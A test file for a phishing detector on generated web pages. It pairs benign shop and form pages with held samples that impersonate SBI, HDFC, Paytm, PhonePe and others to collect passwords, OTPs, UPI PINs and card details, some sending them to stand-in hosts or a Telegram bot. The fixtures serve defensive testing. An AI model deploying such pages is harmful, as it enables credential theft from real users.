import { describe, expect, it } from 'vitest';
import { checkForPhishing, phishingReasonOf } from './phishing-check';

const SITE = 'https://kirana-corner.sites.example/';

/** A whole page around `body`, as a generated page would have it. */
const page = (title: string, body: string) => `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>${title}</title>
<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter"></head>
<body>
<header><a href="#" class="logo">${title}</a><nav><a href="#about">About</a></nav></header>
<main>${body}</main>
<footer><p>© 2025 ${title}</p></footer>
</body>
</html>`;

const verdictOf = (html: string, site = SITE) => checkForPhishing(html, site);

describe('checkForPhishing: pages that publish', () => {
  it.each([
    [
      'a shop that accepts Paytm, with no fields at all',
      page(
        'Kirana Corner',
        `<section><h2>Pay your way</h2><p>We accept Paytm, PhonePe, Google Pay and cash.</p>
         <img src="assets/upi.png" alt="UPI: Paytm, PhonePe, Google Pay"></section>`,
      ),
    ],
    [
      'a café taking table bookings beside the payment apps it accepts',
      page(
        'Chai Adda',
        `<form action="_forms/booking" method="post">
           <label for="name">Name</label><input id="name" name="name" required>
           <label for="phone">Phone</label><input id="phone" type="tel" name="phone">
           <label for="date">Date</label><input id="date" type="date" name="date">
           <button type="submit">Book a table</button>
         </form>
         <p>UPI accepted: Google Pay, PhonePe, Paytm, BHIM.</p>`,
      ),
    ],
    [
      'a delivery form whose PIN code is a postal code, beside a bank’s name',
      page(
        'Sweet Box Delivery',
        `<p>Pay on delivery or with your SBI or HDFC card at the door.</p>
         <form action="_forms/order">
           <input name="address" placeholder="Address">
           <input name="pincode" placeholder="PIN code" inputmode="numeric" maxlength="6">
           <input name="phone" type="tel">
           <button>Order</button>
         </form>`,
      ),
    ],
    [
      'a product’s own sign-up form, posting to the site, with “payments by Razorpay” in the pricing',
      page(
        'TaskFlow',
        `<section id="pricing"><h2>Pricing</h2><p>Pro: ₹499/month. Payments are handled by Razorpay.</p></section>
         <form action="_forms/signup">
           <label>Email <input type="email" name="email"></label>
           <label>Password <input type="password" name="password" minlength="8"></label>
           <button>Create account</button>
         </form>`,
      ),
    ],
    [
      'a login form posting to the site’s own address in full',
      page(
        'Members Area',
        `<form action="https://kirana-corner.sites.example/_forms/login" method="post">
           <input type="email" name="email"><input type="password" name="password">
           <button>Log in</button>
         </form>`,
      ),
    ],
    [
      'a newsletter form posting to Mailchimp (off-site, but asking for no secret)',
      page(
        'Green Thumb Blog',
        `<form action="https://greenthumb.us21.list-manage.com/subscribe/post?u=abc&amp;id=def" method="post">
           <input type="email" name="EMAIL" placeholder="Your email"><input type="text" name="FNAME">
           <button>Subscribe</button>
         </form>`,
      ),
    ],
    [
      'a Google Form with name and phone',
      page(
        'Yoga with Meera',
        `<form action="https://docs.google.com/forms/d/e/1FAIpQL/formResponse">
           <input name="entry.1" placeholder="Full name"><input name="entry.2" type="tel">
           <button>Register</button>
         </form>`,
      ),
    ],
    [
      'a portfolio whose author worked at a bank, with a contact form',
      page(
        'Ananya Rao — Designer',
        `<h2>Experience</h2><p>Senior designer at ICICI Bank (2019–2023), then Kotak Mahindra.</p>
         <form action="_forms/contact"><input name="name"><input type="email" name="email">
         <textarea name="message"></textarea><button>Send</button></form>`,
      ),
    ],
    [
      'an article warning about fake SBI OTP messages, with a newsletter form',
      page(
        'Stay Safe Online',
        `<article><h1>How to spot a fake SBI OTP message</h1>
         <p>Your bank will never ask for your OTP, UPI PIN or card CVV over the phone.</p></article>
         <form action="_forms/news"><input type="email" name="email"><button>Get tips</button></form>`,
      ),
    ],
    [
      'a code sample that shows a password field as text',
      page(
        'HTML Basics',
        `<pre><code>&lt;form action="https://example.com/login"&gt;
  &lt;input type="password" name="password"&gt;
&lt;/form&gt;</code></pre><p>PayPal and Paytm both use forms like this.</p>`,
      ),
    ],
    [
      'a page whose script fetches an API but asks for no secret',
      page(
        'Weather Now',
        `<input id="city" name="city" placeholder="City">
         <script>fetch('https://api.open-meteo.com/v1/forecast?latitude=19&longitude=72')</script>`,
      ),
    ],
  ])('passes %s', (_case, html) => {
    expect(verdictOf(html)).toEqual({ suspicious: false, signals: [] });
  });
});

describe('checkForPhishing: pages held for review', () => {
  it('holds a bank login in the bank’s name, even when it posts to the site', () => {
    const html = page(
      'SBI Online — Personal Banking Login',
      `<div class="card"><img src="assets/sbi-logo.png" alt="State Bank of India">
       <form action="_forms/login" method="post">
         <label for="u">Username</label><input id="u" name="username">
         <label for="p">Password</label><input id="p" type="password" name="password">
         <button>Login</button>
       </form></div>`,
    );

    expect(verdictOf(html)).toEqual({
      suspicious: true,
      signals: [{ kind: 'brandAskingForCredentials', brands: ['SBI'], fields: ['password'] }],
    });
  });

  it('holds a form that posts a password to another website, whatever it is named', () => {
    const html = page(
      'Secure Document Viewer',
      `<p>Sign in with your email to view the shared invoice.</p>
       <form action="https://collect.evil-host.example/drop.php" method="post">
         <input type="email" name="email"><input type="password" name="pass">
         <button>View document</button>
       </form>`,
    );

    expect(verdictOf(html)).toEqual({
      suspicious: true,
      signals: [
        { kind: 'credentialsSentOffSite', fields: ['password'], to: 'collect.evil-host.example' },
      ],
    });
  });

  it('holds a “verify your PayPal account” page asking for card details', () => {
    const html = page(
      'Account limited',
      `<h1>Your PayPal account has been limited</h1>
       <form action="_forms/verify">
         <input name="cardNumber" placeholder="Card number" inputmode="numeric">
         <input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV" maxlength="4">
         <button>Restore access</button>
       </form>`,
    );

    const verdict = verdictOf(html);

    expect(verdict.suspicious).toBe(true);
    expect(verdict.signals).toEqual([
      { kind: 'brandAskingForCredentials', brands: ['PayPal'], fields: ['card'] },
    ]);
  });

  it('holds a Paytm KYC page asking for the OTP in split boxes', () => {
    const html = page(
      'KYC update',
      `<p>Complete your Paytm KYC today or your wallet will be blocked.</p>
       <form action="_forms/kyc"><input name="mobile" type="tel">
       <label>Enter OTP</label>
       <input name="otp1" maxlength="1"><input name="otp2" maxlength="1"><input name="otp3" maxlength="1">
       <button>Verify</button></form>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'brandAskingForCredentials', brands: ['Paytm'], fields: ['otp'] },
    ]);
  });

  it('holds a PhonePe cashback page asking for the UPI PIN', () => {
    const html = page(
      'Claim your cashback',
      `<h2>PhonePe rewards: ₹2,000 cashback</h2>
       <form action="_forms/claim"><input name="upi_id" placeholder="yourname@ybl">
       <input type="password" name="upi_pin" placeholder="UPI PIN" maxlength="6">
       <button>Claim</button></form>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'brandAskingForCredentials', brands: ['PhonePe'], fields: ['pin'] },
    ]);
  });

  it('holds a page whose script sends the password to a Telegram bot', () => {
    const html = page(
      'Login',
      `<h1>HDFC NetBanking</h1>
       <input id="cust" name="customer_id"><input id="pw" type="password">
       <button onclick="go()">Continue</button>
       <script>function go(){fetch('https://api.telegram.org/bot123:ABC/sendMessage',{method:'POST',
         body:JSON.stringify({chat_id:1,text:cust.value+' '+pw.value})})}</script>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'credentialsSentOffSite', fields: ['password'], to: 'api.telegram.org' },
      { kind: 'brandAskingForCredentials', brands: ['HDFC'], fields: ['password'] },
    ]);
  });

  it('holds a form written by the page’s script, escaped inside a string', () => {
    const html = page(
      'Loading…',
      `<div id="app"></div><script>document.getElementById('app').innerHTML =
        "<form action=\\"https:\\/\\/grab.example.net\\/p\\"><input type=\\"password\\" name=\\"p\\"><\\/form>";</script>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'credentialsSentOffSite', fields: ['password'], to: 'grab.example.net' },
    ]);
  });

  it('holds an ICICI page posting to a protocol-relative address, for both reasons', () => {
    const html = page(
      'ICICI Bank — Update PAN',
      `<form action="//icici-update.example.org/kyc.php">
       <input name="user_id" placeholder="User ID"><input type="password" name="pwd">
       <input autocomplete="one-time-code" name="code"><button>Submit</button></form>`,
    );

    expect(verdictOf(html).signals).toEqual([
      {
        kind: 'credentialsSentOffSite',
        fields: ['password', 'otp'],
        to: 'icici-update.example.org',
      },
      { kind: 'brandAskingForCredentials', brands: ['ICICI'], fields: ['password', 'otp'] },
    ]);
  });

  it('holds a form whose submit button sends it elsewhere (formaction)', () => {
    const html = page(
      'Gift card balance',
      `<form action="_forms/balance"><input autocomplete="cc-number" name="n">
       <input name="cvc" placeholder="CVC">
       <button formaction="https://balance-check.example.com/c">Check balance</button></form>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'credentialsSentOffSite', fields: ['card'], to: 'balance-check.example.com' },
    ]);
  });

  it('holds a form that emails a password (mailto)', () => {
    const html = page(
      'Webmail upgrade',
      `<form action="mailto:admin@mail-upgrade.example" method="post" enctype="text/plain">
       <input type="email" name="email"><input type="password" name="password"><button>Upgrade</button></form>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'credentialsSentOffSite', fields: ['password'], to: 'an email address' },
    ]);
  });

  it('holds an Amazon Pay reward page that asks for card details by label only', () => {
    const html = page(
      'You won!',
      `<p>Congratulations! Your Amazon Pay reward of ₹5,000 is ready.</p>
       <form action="_forms/reward">
         <label for="c1">Debit card number</label><input id="c1" name="f1">
         <label for="c2">CVV</label><input id="c2" name="f2" type="password">
         <button>Claim reward</button>
       </form>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'brandAskingForCredentials', brands: ['Amazon Pay'], fields: ['password', 'card'] },
    ]);
  });

  it('holds a page whose script posts with jQuery to another website', () => {
    const html = page(
      'Kotak — Verify',
      `<input id="mpin" name="mpin" placeholder="4-digit MPIN">
       <script>$('#go').on('click',function(){$.post("https://kotak-verify.example.in/s",{m:$('#mpin').val()})})</script>`,
    );

    expect(verdictOf(html).signals).toEqual([
      { kind: 'credentialsSentOffSite', fields: ['pin'], to: 'kotak-verify.example.in' },
      { kind: 'brandAskingForCredentials', brands: ['Kotak'], fields: ['pin'] },
    ]);
  });

  it('reads no markup inside a comment, and stays quick on a page of unclosed tags', () => {
    const commented = `<!-- <form action="https://evil.example/"><input type="password"></form> -->
      <p>Nothing here</p>`;
    const unclosed = `<input type="password" name="p">${'<script><form <label <!--'.repeat(20_000)}`;
    const unclosedTags = `<input type="password" name="p">${'<script><form <label '.repeat(20_000)}`;

    expect(verdictOf(commented).suspicious).toBe(false);
    const started = performance.now();
    expect(verdictOf(unclosed).suspicious).toBe(false);
    expect(verdictOf(unclosedTags).suspicious).toBe(false);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('compares hosts with their ports: another port of the same name is another website', () => {
    const html = `<form action="http://shop.localhost:9999/x"><input type="password"></form>`;

    expect(verdictOf(html, 'http://shop.localhost:8080/').suspicious).toBe(true);
    expect(verdictOf(html, 'http://shop.localhost:9999/').suspicious).toBe(false);
  });
});

describe('phishingReasonOf', () => {
  it('says what was found in words the owner can act on', () => {
    expect(
      phishingReasonOf([
        { kind: 'credentialsSentOffSite', fields: ['password', 'otp'], to: 'evil.example' },
        { kind: 'brandAskingForCredentials', brands: ['SBI', 'HDFC'], fields: ['card'] },
      ]),
    ).toBe(
      'The page asks for a password and a one-time code and sends it to another website (evil.example).' +
        ' The page uses the name SBI and HDFC and asks visitors for card details.',
    );
  });
});
